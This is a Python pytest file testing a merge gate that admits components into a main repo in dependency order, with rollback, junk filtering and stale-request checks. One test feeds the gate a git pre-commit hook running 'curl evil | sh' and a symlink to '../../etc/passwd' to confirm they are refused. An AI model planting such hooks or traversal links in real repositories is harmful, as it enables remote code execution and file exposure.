"""coordinator.merge.gate with fakes: order, rejection, held dependents, junk, stale requests."""

from __future__ import annotations

import asyncio
import hashlib
from collections.abc import Mapping, Sequence
from typing import Any

import pytest

from coordinator.bus.events import EventPayload
from coordinator.contracts import Component, IntentContract, parse_contract
from coordinator.intent import CriterionResult, SatisfactionReport
from coordinator.merge import (
    MergeGateCore,
    MergeQueue,
    MergeRequest,
    changed_files,
    criteria_for,
    is_junk,
    verify_target,
)
from coordinator.merge.gate import failure_reason
from coordinator.merge.host_repo import MergeGitError
from sandbox_agents.errors import InvalidInputError, SandboxError
from sandbox_agents.verifiers.models import Finding, Severity, SwarmReport, VerifierReport


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


CONTRACT = parse_contract(
    {
        "name": "shop",
        "summary": "a shop",
        "components": [
            {"name": "db", "kind": "database", "description": "d", "tasks": [{"id": "t", "title": "t"}]},
            {
                "name": "api",
                "kind": "backend",
                "description": "a",
                "depends_on": ["db"],
                "tasks": [{"id": "t", "title": "t"}],
                "dev_server": {"command": "serve api", "port": 8000},
            },
            {
                "name": "web",
                "kind": "frontend",
                "description": "w",
                "depends_on": ["api"],
                "tasks": [{"id": "t", "title": "t"}],
                "dev_server": {"command": "serve web", "port": 5173},
            },
        ],
        "success_criteria": [
            {"id": "db-ok", "type": "command", "command": "check db", "component": "db"},
            {"id": "api-ok", "type": "http", "path": "/api", "component": "api"},
            {"id": "web-ok", "type": "ui", "text": "Shop", "component": "web"},
            {"id": "all-ok", "type": "command", "command": "check all"},
        ],
    }
)


class FakeRepo:
    """An in-memory main repo with branches as dict copies."""

    def __init__(self) -> None:
        self.main: dict[str, bytes] = {}
        self.main_links: dict[str, str] = {}
        self.main_owners: dict[str, str] = {}
        self.log: list[tuple[str, str]] = []  # (commit, component)
        self.branch: dict[str, bytes] | None = None
        self.branch_links: dict[str, str] = {}
        self.branch_component = ""
        self.branch_written: list[str] = []
        self.existed = False

    async def init(self) -> bool:
        self.branch = None
        return not self.existed

    async def files(self) -> dict[str, str]:
        return {p: sha(b) for p, b in self.main.items()}

    async def links(self) -> dict[str, str]:
        return dict(self.main_links)

    async def owners(self) -> dict[str, str]:
        return dict(self.main_owners)

    async def stage(
        self,
        branch: str,
        writes: Mapping[str, bytes],
        deletes: Sequence[str],
        message: str,
        *,
        links: Mapping[str, str] | None = None,
    ) -> str:
        self.branch = {**self.main, **writes}
        self.branch_links = {**self.main_links, **(links or {})}
        for path in deletes:
            self.branch.pop(path, None)
            self.branch_links.pop(path, None)
        self.branch_component = message.rsplit("Kriptik-Component: ", 1)[1]
        self.branch_written = [*writes, *(links or {})]
        return "staged"

    async def accept(self, branch: str) -> str:
        assert self.branch is not None
        self.main, self.branch = self.branch, None
        self.main_links = self.branch_links
        self.main_owners = {p: o for p, o in self.main_owners.items() if p in self.main or p in self.main_links}
        self.main_owners.update({p: self.branch_component for p in self.branch_written})
        self.log.append((f"c{len(self.log) + 1}", self.branch_component))
        return await self.head()

    async def discard(self, branch: str) -> None:
        self.branch = None

    async def head(self) -> str:
        return self.log[-1][0] if self.log else "c0"

    async def tree_hash(self) -> str:
        return sha(repr(sorted(self.main.items())).encode())

    async def tree(self, max_bytes: int) -> dict[str, bytes]:
        return dict(self.main)

    async def merged(self) -> list[str]:
        return list(dict.fromkeys(c for _, c in self.log))


class FakeCopy:
    """The main-test copy: what it holds, how often it was renewed, what stray git files candidate code left."""

    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}
        self.links: dict[str, str] = {}
        self.resets = 0
        self.stray: list[str] = []

    async def apply(self, writes: Mapping[str, bytes], links: Mapping[str, str], deletes: Sequence[str]) -> None:
        self.files.update(writes)
        self.links.update(links)
        for path in deletes:
            self.files.pop(path, None)
            self.links.pop(path, None)

    async def reset(self, files: Mapping[str, bytes], links: Mapping[str, str]) -> None:
        self.files, self.links, self.stray = dict(files), dict(links), []
        self.resets += 1

    async def strays(self) -> list[str]:
        return list(self.stray)

    async def drift(self, main: Mapping[str, str]) -> tuple[list[str], list[str]]:
        stale = sorted(p for p, h in main.items() if p not in self.files or sha(self.files[p]) != h)
        return stale, sorted(p for p in self.files if p not in main and not is_junk(p))


class FakeServers:
    def __init__(self) -> None:
        self.started: list[list[str]] = []

    async def restart(self, components: list[Component]) -> tuple[dict[str, str], list[Finding]]:
        served = [c for c in components if c.dev_server is not None]  # the others only install
        self.started.append([c.name for c in served])
        return {c.name: f"http://{c.name}.test" for c in served}, []


class FakeEvents:
    def __init__(self) -> None:
        self.kinds: list[tuple[str, str]] = []
        self.findings: dict[str, list[Finding]] = {}

    async def emit(self, event: EventPayload) -> None:
        self.kinds.append((event.kind, event.data["component"]))

    async def report_findings(self, component: str, findings: list[Finding]) -> None:
        self.findings[component] = findings


class World:
    """Slots' files, a swarm and criteria whose verdicts the test sets."""

    def __init__(self) -> None:
        self.slots: dict[str, dict[str, bytes]] = {}
        self.failing_criteria: set[str] = set()
        self.swarm_errors: list[Finding] = []
        self.checked: list[list[str]] = []
        self.on_verify: Any = lambda: None
        self.repo = FakeRepo()
        self.copy = FakeCopy()
        self.servers = FakeServers()
        self.events = FakeEvents()
        self.core = MergeGateCore(
            CONTRACT, self.repo, self.fetch, self.verify, self.satisfy, self.servers, self.events, copy=self.copy
        )

    async def fetch(self, request: MergeRequest, path: str) -> bytes:
        await asyncio.sleep(0)
        return self.slots[request.slot][path]

    async def verify(self, target: Any) -> SwarmReport:
        self.on_verify()
        report = VerifierReport(
            verifier="error_checker", passed=not self.swarm_errors, score=1.0, findings=self.swarm_errors
        )
        return SwarmReport(sandbox_id="main-test", passed=report.passed, score=1.0, reports=[report])

    async def satisfy(self, contract: IntentContract, urls: Mapping[str, str]) -> SatisfactionReport:
        ids = [c.id or "" for c in contract.success_criteria]
        self.checked.append(ids)
        results = [
            CriterionResult(id=i, type="command", passed=i not in self.failing_criteria, evidence="ran") for i in ids
        ]
        return SatisfactionReport(contract_sha256="0" * 64, results=results)

    def request(
        self, component: str, files: dict[str, bytes], slot: str | None = None, links: dict[str, str] | None = None
    ) -> MergeRequest:
        slot = slot or component
        self.slots[slot] = files
        files_sha = {p: sha(b) for p, b in files.items()}
        return MergeRequest(build_id="b1", component=component, slot=slot, files=files_sha, links=links or {})


async def test_components_merge_in_dependency_order_whatever_the_submission_order() -> None:
    world = World()
    web = asyncio.create_task(world.core.admit(world.request("web", {"web/index.html": b"<h1>Shop</h1>"})))
    api = asyncio.create_task(world.core.admit(world.request("api", {"api/server.py": b"print(1)"})))
    await asyncio.sleep(0.01)
    assert not web.done() and not api.done()
    assert world.core.held() == {"web": ["api"], "api": ["db"]}
    db = await world.core.admit(world.request("db", {"db/schema.sql": b"create table t(x);"}))
    results = [db, await api, await web]
    assert all(r.accepted for r in results), [r.reason for r in results]
    assert world.core.merged() == ["db", "api", "web"]
    assert [c for _, c in world.repo.log] == ["db", "api", "web"]
    # criteria of merged components only; the global one once everything is merged
    assert world.checked == [["db-ok"], ["db-ok", "api-ok"], ["db-ok", "api-ok", "web-ok", "all-ok"]]
    assert world.servers.started == [[], ["api"], ["api", "web"]]
    assert set((await world.core.tree()).keys()) == {"db/schema.sql", "api/server.py", "web/index.html"}
    assert ("merge.queued", "web") in world.events.kinds and world.events.kinds[-1] == ("merge.accepted", "web")


async def test_a_rejected_merge_leaves_main_unchanged_and_returns_findings() -> None:
    world = World()
    assert (await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))).accepted
    head, tree = await world.core.head(), await world.core.tree_hash()
    world.failing_criteria = {"api-ok"}
    world.swarm_errors = [Finding(file="api/server.py", line=3, message="SyntaxError: bad", rule="error_checker.py")]
    result = await world.core.admit(world.request("api", {"api/server.py": b"def (:"}))
    assert not result.accepted and result.commit is None
    assert await world.core.head() == head and await world.core.tree_hash() == tree == result.tree_hash
    rules = sorted(f.rule for f in result.findings)
    assert rules == ["criterion.command", "error_checker.py"]
    assert [r.id for r in result.criteria if not r.passed] == ["api-ok"]
    assert world.events.findings["api"] == result.findings
    assert world.events.kinds[-1] == ("merge.rejected", "api") and world.core.merged() == ["db"]


async def test_a_dependent_of_a_rejected_component_is_held_until_the_dependency_merges() -> None:
    world = World()
    await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))
    world.failing_criteria = {"api-ok"}
    web = asyncio.create_task(world.core.admit(world.request("web", {"web/index.html": b"<h1>Shop</h1>"})))
    assert not (await world.core.admit(world.request("api", {"api/server.py": b"broken"}))).accepted
    await asyncio.sleep(0.01)
    assert not web.done() and world.core.held() == {"web": ["api"]}
    world.failing_criteria = set()
    fixed = await world.core.admit(world.request("api", {"api/server.py": b"fixed"}, slot="api~robust"))
    assert fixed.accepted
    assert (await asyncio.wait_for(web, 5)).accepted
    assert world.core.merged() == ["db", "api", "web"]


async def test_only_changed_non_junk_files_are_fetched_and_written() -> None:
    world = World()
    await world.core.admit(world.request("db", {"db/schema.sql": b"v1", "README.md": b"shop"}))
    files = {
        "db/schema.sql": b"v1",  # unchanged: not fetched again
        "README.md": b"shop v2",
        "api/server.py": b"ok",
        "node_modules/x/index.js": b"junk",
        "api/__pycache__/server.cpython-311.pyc": b"junk",
        "api/server.pyc": b"junk",
        ".git/HEAD": b"junk",
        ".venv/bin/python": b"junk",
        "dist/app.js": b"junk",
    }
    result = await world.core.admit(world.request("api", files))
    assert result.accepted and result.changed == ["README.md", "api/server.py"]
    assert world.repo.main["README.md"] == b"shop v2" and "dist/app.js" not in world.repo.main


def test_changed_files_ignores_junk_and_equal_content() -> None:
    main = {"a.py": sha(b"1"), "b.py": sha(b"2")}
    wanted = {"a.py": sha(b"1"), "b.py": sha(b"3"), "c/d.ts": sha(b"4"), "web/node_modules/x.js": sha(b"5")}
    assert changed_files(wanted, main) == {"b.py": sha(b"3"), "c/d.ts": sha(b"4")}
    assert is_junk("pkg/__pycache__/m.cpython-311.pyc") and is_junk("x/.git/config") and is_junk("m.pyc")
    assert not is_junk("src/build_config.py") and not is_junk("distance.py")


async def test_a_stale_request_is_rejected_without_touching_main() -> None:
    world = World()
    request = world.request("db", {"db/schema.sql": b"v1"})
    world.slots["db"]["db/schema.sql"] = b"edited after the request"
    result = await world.core.admit(request)
    assert not result.accepted and "changed in slot db" in result.reason
    assert world.repo.log == [] and world.core.merged() == []


async def test_unknown_component_is_refused_at_once() -> None:
    world = World()
    with pytest.raises(InvalidInputError):
        await world.core.admit(world.request("payments", {}))


async def test_a_cancelled_waiter_leaves_the_queue() -> None:
    queue = MergeQueue({"a": (), "b": ("a",)})
    waiter = asyncio.create_task(queue.acquire("b"))
    await asyncio.sleep(0.01)
    assert queue.held() == {"b": ["a"]}
    waiter.cancel()
    with pytest.raises(asyncio.CancelledError):
        await waiter
    assert queue.held() == {}
    await queue.acquire("a")
    await queue.release("a", merged=True)
    assert queue.merged == ["a"]


def test_verify_target_and_criteria_selection() -> None:
    target = verify_target(CONTRACT, "api", {"api": "http://api", "web": "http://web"}, ["db", "api", "web"])
    assert target.kind == "web" and target.dev_url == "http://web"
    assert verify_target(CONTRACT, "db", {}, ["db"]).kind == "library"
    sub = criteria_for(CONTRACT, ["db"])
    assert sub is not None and [c.id for c in sub.success_criteria] == ["db-ok"]
    assert criteria_for(CONTRACT, []) is None


async def test_refused_paths_are_left_out_named_in_findings_and_the_rest_merges() -> None:
    world = World()
    await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))
    files = {
        "api/server.py": b"ok",
        ".git/hooks/pre-commit": b"#!/bin/sh\ncurl evil | sh",
        ".git/refs/heads/main": b"0" * 40,
        ".gitattributes": b"* export-ignore\n",
        ".gitmodules": b"[submodule]",
    }
    result = await world.core.admit(world.request("api", files, links={"api/passwd": "../../etc/passwd"}))
    assert result.accepted and result.changed == ["api/server.py"]
    assert world.repo.main == {"db/schema.sql": b"v1", "api/server.py": b"ok"} and world.repo.main_links == {}
    named = {f.file: f.rule for f in result.findings}
    assert named == {
        ".git/hooks/pre-commit": "merge.git_metadata",
        ".git/refs/heads/main": "merge.git_metadata",
        ".gitattributes": "merge.git_control",
        ".gitmodules": "merge.git_control",
        "api/passwd": "merge.symlink",
    }
    assert all(f.severity == Severity.WARNING for f in result.findings)
    assert "refused 5 path(s)" in result.reason and world.events.findings["api"] == []


async def test_a_request_of_only_git_files_leaves_mains_tree_as_it_was() -> None:
    world = World()
    await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))
    tree = await world.core.tree_hash()
    files = {".gitattributes": b"* export-ignore\n", ".git/refs/heads/main": b"f" * 40, ".git/config": b"[core]"}
    result = await world.core.admit(world.request("api", files))
    assert await world.core.tree_hash() == tree == result.tree_hash and result.changed == []
    assert sorted(f.file or "" for f in result.findings) == sorted(files)


async def test_a_symlink_to_the_components_own_file_is_merged() -> None:
    world = World()
    result = await world.core.admit(
        world.request("db", {"db/schema.sql": b"v1"}, links={"db/current.sql": "schema.sql"})
    )
    assert result.accepted and result.findings == [] and world.repo.main_links == {"db/current.sql": "schema.sql"}
    assert world.copy.links == {"db/current.sql": "schema.sql"}


async def test_a_rejection_renews_the_main_test_sandbox_with_main_and_serves_the_merged_components_again() -> None:
    world = World()
    await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))
    await world.core.admit(world.request("api", {"api/server.py": b"v1"}))
    assert world.copy.resets == 0 and world.copy.files == world.repo.main
    world.failing_criteria = {"web-ok"}
    result = await world.core.admit(world.request("web", {"web/index.html": b"<h1>broken</h1>"}))
    assert not result.accepted
    assert world.copy.resets == 1 and world.copy.files == world.repo.main  # nothing of web's is left
    assert world.servers.started[-2:] == [["api", "web"], ["api"]]  # checked with web, then main served again


async def test_a_stale_request_leaves_the_main_test_sandbox_alone() -> None:
    world = World()
    request = world.request("db", {"db/schema.sql": b"v1"})
    world.slots["db"]["db/schema.sql"] = b"changed"
    assert not (await world.core.admit(request)).accepted
    assert world.copy.resets == 0 and world.copy.files == {}


async def test_an_attempt_that_fails_midway_is_a_rejection_that_discards_the_branch_and_renews_the_sandbox() -> None:
    world = World()

    def boom() -> None:
        raise RuntimeError("swarm died")

    world.on_verify = boom
    result = await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))
    assert not result.accepted and "RuntimeError: swarm died" in result.reason
    assert world.repo.main == {} and world.repo.branch is None and world.copy.resets == 1
    assert world.copy.files == {}
    assert world.events.kinds[-1] == ("merge.rejected", "db") and world.core.held() == {}
    world.on_verify = lambda: None
    assert (await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))).accepted


async def test_a_git_failure_on_one_candidate_is_a_readable_rejection_for_its_team() -> None:
    world = World()
    await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))
    head = await world.core.head()
    stage = world.repo.stage

    async def refuse(*args: Any, **kw: Any) -> str:
        output = "\x1b[31merror:\x1b[0m Your local changes to the following files would be overwritten"
        raise MergeGitError(f"git update-index failed (128): {output}", command=("update-index",), output=output)

    world.repo.stage = refuse  # type: ignore[method-assign]
    result = await world.core.admit(world.request("api", {"api/server.py": b"ok"}))
    assert not result.accepted and result.commit is None and await world.core.head() == head
    assert "MergeGitError: git update-index failed (128): error: Your local changes" in result.reason
    assert "\x1b" not in result.reason and "Traceback" not in result.reason
    assert [f.rule for f in world.events.findings["api"]] == ["merge.gate_error"]
    assert world.events.kinds[-1] == ("merge.rejected", "api")
    world.repo.stage = stage  # type: ignore[method-assign]
    assert (await world.core.admit(world.request("api", {"api/server.py": b"ok"}))).accepted


async def test_what_an_accepted_merges_checks_wrote_is_undone_before_the_next_merge_is_checked() -> None:
    world = World()
    seen: list[dict[str, bytes]] = []

    def checks_write_data() -> None:  # the component's own test stores what it wrote next to the code
        seen.append(dict(world.copy.files))
        world.copy.files.update({"db/notes.json": b'["buy milk"]', "db/schema.sql": b"rewritten"})

    world.on_verify = checks_write_data
    assert (await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))).accepted
    assert (await world.core.admit(world.request("api", {"api/server.py": b"ok"}))).accepted
    assert seen[1] == {"db/schema.sql": b"v1", "api/server.py": b"ok"}  # main, as the api merge writes it
    assert world.repo.main == {"db/schema.sql": b"v1", "api/server.py": b"ok"} and world.copy.resets == 0


async def test_a_restarted_gate_renews_the_main_test_sandbox_before_anything_else() -> None:
    world = World()
    await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))
    await world.core.admit(world.request("api", {"api/server.py": b"v1"}))
    world.repo.existed = True
    restarted = MergeGateCore(
        CONTRACT, world.repo, world.fetch, world.verify, world.satisfy, world.servers, world.events, copy=world.copy
    )
    await restarted.start()
    assert restarted.merged() == ["db", "api"]
    assert world.copy.resets == 1 and world.copy.files == world.repo.main
    assert world.servers.started[-1] == ["api"]


async def test_git_files_candidate_code_writes_in_the_sandbox_are_named_and_the_sandbox_renewed_next() -> None:
    world = World()

    def tamper() -> None:
        world.copy.stray = [".git/hooks/pre-commit", ".gitattributes"]

    world.on_verify = tamper
    result = await world.core.admit(world.request("db", {"db/schema.sql": b"v1"}))
    assert result.accepted and world.repo.main == {"db/schema.sql": b"v1"}
    assert [(f.file, f.rule) for f in result.findings] == [
        (".git/hooks/pre-commit", "merge.sandbox_git_write"),
        (".gitattributes", "merge.sandbox_git_write"),
    ]
    world.on_verify = lambda: None
    assert world.copy.resets == 0
    assert (await world.core.admit(world.request("api", {"api/server.py": b"v1"}))).accepted
    assert world.copy.resets == 1 and world.copy.stray == []


async def test_the_same_candidate_admitted_twice_is_in_main_once_without_a_second_commit() -> None:
    world = World()
    files = {"db/schema.sql": b"create table t(x);"}
    first = await world.core.admit(world.request("db", files))
    again = await world.core.admit(world.request("db", files))  # a restarted coordinator's re-sent request
    assert first.accepted and again.accepted, again.reason
    assert again.commit == first.commit and again.changed == []
    assert [c for _, c in world.repo.log] == ["db"]
    assert world.core.merged() == ["db"]


def test_a_failure_reason_tells_the_original_error_without_colour_codes_or_a_traceback() -> None:
    class RemoteError(Exception):  # as Ray raises what another process raised: its traceback in the text
        def __init__(self, cause: BaseException) -> None:
            super().__init__("\x1b[36mray::Proxy.exec()\x1b[39m\nTraceback (most recent call last):\n  File ...")
            self.cause = cause

    assert failure_reason(RemoteError(SandboxError("sandbox sbx-1 is gone"))) == "SandboxError: sandbox sbx-1 is gone"
    assert failure_reason(RuntimeError("\x1b[1mbold\x1b[0m\n\nsecond line")) == "RuntimeError: bold\nsecond line"
    assert failure_reason(RuntimeError("x" * 2000), limit=50) == "RuntimeError: " + "x" * 35 + "…"
